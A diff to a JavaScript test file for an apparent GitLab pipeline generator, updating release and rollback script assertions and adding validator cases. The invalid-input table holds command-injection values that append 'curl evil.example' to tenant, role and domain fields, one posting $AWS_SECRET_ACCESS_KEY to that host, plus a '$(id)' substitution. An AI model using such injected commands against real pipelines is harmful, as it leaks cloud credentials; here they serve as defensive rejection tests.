@@ -43,10 +43,10 @@ it('gives GitLab jobs whose merge waits for its own shares', () => {
     'npm run build:merge -- --from share-1 --from share-2 --from share-3 --out dist',
   )
   expect(pipeline.haihui.script).toContain(
-    'npm run release -- --site dist --to "$RELEASE_TO" $RELEASE_FLAGS --tenant "$SITE_TENANT" --report release.json',
+    'npm run release -- --site dist --to "$RELEASE_TO" $RELEASE_FLAGS --tenant "$SITE_TENANT" --keep-release "$keep" --report release.json',
   )
   expect(pipeline['haihui rollback']).toMatchObject({ when: 'manual', needs: [] })
-  expect(pipeline['haihui rollback'].script.at(-1)).toContain('--domain "$SITE_DOMAIN" --rollback')
+  expect(pipeline['haihui rollback'].script.join('\n')).toContain('--domain "$SITE_DOMAIN" --rollback')
   expect(pipeline['haihui rollback'].variables.SITE_DOMAIN).toBe('fair.example.com')
   expect(pipeline['seto 1/1'].script[1]).toContain('--domain "$SITE_DOMAIN" --shard "$SITE_SHARD"')
   expect(pipeline['seto 1/1'].variables).toMatchObject({ SITE_DOMAIN: 'seto.example.com', SITE_SHARD: '1/1' })
@@ -57,6 +57,8 @@ it.each([
   ['name', { name: '../a' }],
   ['platform', { platform: 'https://p.example/$(id)' }],
   ['platform', { platform: 'http://p.example' }],
+  ['tenant', { tenant: '1001"; curl evil.example' }],
+  ['role', { role: 'arn:aws:iam::123:role/x; curl evil.example' }],
   ['domain', { domain: 'x"; curl -d "$AWS_SECRET_ACCESS_KEY" evil.example; "' }],
   ['domain', { domain: undefined }],
   ['shards', { shards: 0 }],
